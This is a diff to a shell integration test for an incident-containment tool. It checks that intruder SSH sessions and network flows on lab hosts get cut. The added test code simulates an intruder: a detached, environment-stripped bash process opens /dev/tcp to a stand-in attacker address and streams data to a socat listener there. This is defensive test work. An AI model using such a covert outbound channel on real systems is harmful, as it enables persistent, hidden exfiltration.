@@ -6,7 +6,11 @@ fleet_enter "$@"
 . "$2/tests/cli/farm.sh" "$1" "$2"
 fleet_up 4 "$scratch/fleet" || { echo "Bail out! the fleet does not start"; exit 1; }
 variables
-sed -i 's/ConnectTimeout 10/ConnectTimeout 7/' "$fleet/ssh_config"
+# The team keeps a connection to h2 open, and its second path would go over the same one. h1-again is another name for
+# the first path.
+sed -i "s/ConnectTimeout 10/ConnectTimeout 7/
+	1i Host h2 h2-second\\n\\tControlMaster auto\\n\\tControlPath $scratch/open
+	1i Host h1-again\\n\\tHostName 10.77.0.1\\n\\tHostKeyAlias fleet" "$fleet/ssh_config"
 run key init
 key=$(head -1 "$scratch/out")
 
@@ -44,6 +48,16 @@ evil_session() {      # ADDRESS: stays there until it is cut; its process is $ev
 	evil=$!
 }
 sleeps() { fleet_on "$1" pgrep -x sleep -u alice; }
+# A flow of the host's to the intruder that has nothing of ssh about it: nothing in its environment, nobody above it.
+# What arrives is a line each time in the file; $far is the intruder's end of it.
+flow() {              # HOST PORT FILE
+	fleet_evil socat -u "TCP-LISTEN:$2,bind=10.77.0.66" "OPEN:$3,creat,append" >/dev/null 2>&1 </dev/null &
+	far=$!
+	fleet_on "$1" env -i setsid -f bash -c 'trap "" PIPE
+		until exec 3<>/dev/tcp/10.77.0.66/'"$2"'; do sleep 0.1; done
+		exec -a flow bash -c "while :; do echo x >&3; sleep 0.2; done"' >/dev/null 2>&1 </dev/null
+}
+flow_runs() { fleet_on "$1" pgrep -f '^flow -c'; }
 table() { fleet_on "$1" nft list tables | grep -q firebreak_contain; }
 no_table() { ! table "$1"; }
 ends() { timeout "$1" tail --pid="$2" -f /dev/null; }
@@ -63,9 +77,14 @@ evil_session 10.77.0.1; four=$evil
 evil_session fd77::1; six=$evil
 fleet_evil ssh -F none -i "$fleet/alice" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes \
 	alice@10.77.0.1 'nohup setsid sleep 1001 >/dev/null 2>&1 &' </dev/null >/dev/null 2>&1
-fleet_evil timeout 300 bash -c 'exec socat TCP-LISTEN:4444,bind=10.77.0.66 EXEC:cat' >/dev/null 2>&1 &
+flow h1 4444 "$scratch/flow-h1"
+far_of_h1=$far
+ssh -F "$fleet/ssh_config" -o ControlMaster=yes -fN h2 >/dev/null 2>&1
+open=$(ssh -F "$fleet/ssh_config" h2 'echo $SSH_CONNECTION')
+true_that 'a connection to h2 is kept open' ssh -F "$fleet/ssh_config" -O check h2-second
 three_sleep() { [ "$(fleet_on h1 pgrep -cx sleep -u alice)" = 3 ]; }
 true_that 'the intruder has sessions and something left behind' within 20 three_sleep
+true_that 'and a flow that no session of ssh began' within 20 test -s "$scratch/flow-h1"
 run contain 1 both --as alice
 exits 0 'both are contained'
 says 'h1: contained after'
@@ -75,6 +94,9 @@ true_that 'page_1_ensure_no_one_can_gain_access_to_the_system' never evil_in h1
 true_that 'the session on IPv4 is ended at its own end too' ends 20 "$four"
 true_that 'and the one on IPv6' ends 20 "$six"
 true_that 'nothing of theirs runs there, what was left behind included' never sleeps h1
+true_that 'foreign_established_flows_are_cut: the far end sees it closed' ends 20 "$far_of_h1"
+true_that 'and not since its program ended' flow_runs h1
+arrived=$(wc -l <"$scratch/flow-h1")
 true_that 'the host reaches nobody: no TCP' never fleet_on h1 timeout 2 bash -c 'exec 3<>/dev/tcp/10.77.0.66/22'
 true_that 'and no DNS' never fleet_on h1 timeout 2 bash -c 'echo x >/dev/udp/10.77.0.66/53'
 true_that 'itself it reaches' fleet_on h1 timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/22'
@@ -93,6 +115,10 @@ rows='[.[] | select(.kind == "evidence" or (.kind == "contained" and .body.outco
 result "$(jq -se "$rows | length == 4" "$scratch/out" >/dev/null; echo $?)" 'and has its rows'
 run status 1 --json
 result "$(jq -e '[.hosts[] | select(.contained)] | length == 2' "$scratch/out" >/dev/null; echo $?)" 'status: both'
+result "$(jq -e --arg open "$open" '.hosts[] | select(.host == "h2") | .result | .contain.connection == $open and
+	(.confirm.connection | startswith("10.77.0.252 "))' "$scratch/out" >/dev/null; echo $?)" \
+	'h2 was cut off over the connection that is kept open, and confirmed over a new one of the second path'
+true_that 'which stays open' ssh -F "$fleet/ssh_config" -O check h2
 result "$(jq -e '.list[] | select(.id == "contain:h1") | .outcome == "by hand"' "$scratch/out" >/dev/null; echo $?)" \
 	'the step of the plan is settled'
 run status 1
@@ -117,6 +143,8 @@ true_that 'nothing of ours is left' never fleet_on h1 bash -c 'nft list tables |
 true_that 'Puppet: a colleague'"'"'s lock stays' fleet_on h1 test -e $puppet
 true_that 'ours is gone' never fleet_on h2 test -e $puppet
 true_that 'the intruder could come again' evil_in h1
+true_that 'the program of the flow runs still' flow_runs h1
+true_that 'a flow that was cut does not go on' [ "$(wc -l <"$scratch/flow-h1")" = "$arrived" ]
 
 # --- who would be cut off is refused before anything is done
 register 10.77.0.252 '{host}-second' 60
@@ -138,6 +166,17 @@ register "10.77.0.250, 'fd77::fa', 10.77.0.252" '{host}' 60
 run contain 1 h1 --as alice
 exits 5 'a second path that is the first one is refused'
 says 'its second path is its first one'
+register "10.77.0.250, 'fd77::fa', 10.77.0.252" '{host}-again' 60
+run contain 1 h1 --as alice
+exits 1 'another name for the first one is none either'
+says 'its second path is its first one: the host saw both as 10.77.0.250 '
+says '; the block stays'
+true_that 'it does' table h1
+usual
+run contain 1 h1 --as alice
+exits 0 'by a second path it is contained'
+run release 1 h1 --as alice
+exits 0 'released'
 
 # --- one that is gone holds nobody back; a dead probe host proves nothing and lifts nothing
 usual
@@ -238,10 +277,26 @@ true_that 'nobody comes in by ssh' never evil_in h3
 true_that 'the responder does' ssh -F "$fleet/ssh_config" h3 true
 run release 1 h3 --as alice
 exits 0 'who may releases it'
+# a host that does not let us close a connection: sshd and what it starts may do nothing about the network
+stop_ssh() { fleet_on h3 sh -c 'kill "$(cat /run/sshd.pid)"; while pgrep -f "^sshd: /usr/sbin"; do sleep 0.05; done'; }
+stop_ssh >/dev/null
+fleet_on h3 setpriv --bounding-set -net_admin /usr/sbin/sshd -o PidFile=/run/sshd.pid
 evil_session 10.77.0.3; four=$evil
 true_that 'the intruder is back' within 20 sleeps h3
+flow h3 4445 "$scratch/flow-h3"
+true_that 'with a flow that no session of ssh began' within 20 test -s "$scratch/flow-h3"
+run contain 1 h3 --level sessions --as alice
+exits 1 'what_could_not_be_closed_is_not_called_closed'
+says "of others' sessions and connections could not be ended: they go on"
+arrived=$(wc -l <"$scratch/flow-h3")
+goes_on() { [ "$(wc -l <"$scratch/flow-h3")" -gt "$((arrived + 3))" ]; }
+true_that 'they do' within 20 goes_on
+stop_ssh >/dev/null
+fleet_fresh h3
+true_that 'its ssh is as it was' within 20 ssh -F "$fleet/ssh_config" h3 true
 run contain 1 h3 --level sessions --as alice
 exits 0 'sessions are closed'
+true_that 'the flow at its far end too' ends 20 "$far"
 true_that 'theirs is' ends 20 "$four"
 true_that 'and the way in is open' evil_in h3
 run contain 1 h3 --level ssh --as carl
